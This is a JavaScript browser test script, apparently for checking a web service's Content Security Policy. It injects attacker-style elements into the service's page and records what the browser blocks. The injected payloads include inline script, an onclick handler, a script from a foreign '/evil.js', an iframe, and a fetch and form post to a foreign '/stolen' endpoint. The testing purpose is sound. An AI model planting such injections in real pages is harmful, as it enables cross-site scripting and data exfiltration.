// What the service's page may not do whatever is written into it, and what a page of somebody else may not do to the service.
// usage: node policy.mjs URL FOREIGN_URL KINDS (how many kinds of refusals to wait for)
import { report, withPage } from './browser.mjs'

const [url, foreign, kinds] = process.argv.slice(2)

/** Write into the page what an attacker would; gives what the browser refused and whether anything ran. */
async function injected(page) {
  await page.goto(`${url}/runs`)
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  return page.evaluate(async ([elsewhere, kinds]) => {
    const refused = new Set()
    document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective))
    const add = (name, attributes, text = '') => {
      const element = Object.assign(document.createElement(name), { textContent: text })
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    add('script', {}, 'window.ran = "inline"')
    add('button', { onclick: 'window.ran = "handler"' }).click()
    add('script', { src: `${elsewhere}/evil.js` })
    add('img', { src: `${elsewhere}/pixel.png` })
    add('iframe', { src: elsewhere })
    add('style', {}, 'body { display: none }')
    await fetch(`${elsewhere}/stolen`, { mode: 'no-cors' }).catch(() => {})
    const form = add('form', { action: elsewhere, method: 'post' })
    form.submit()
    const end = Date.now() + 30_000
    while (refused.size < kinds && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 20))
    return { refused: [...refused].sort(), ran: window.ran ?? null, shown: getComputedStyle(document.body).display }
  }, [foreign, Number(kinds)])
}

/** Let a page of another address try to load, to listen and to order. */
async function attacked(page) {
  await page.goto(foreign)
  await page.waitForFunction(() => document.title === 'done')
  return page.evaluate(() => window.outcome)
}

report(() =>
  withPage({}, async (page) => ({ inside: await injected(page), outside: await attacked(page), address: page.url() })),
)
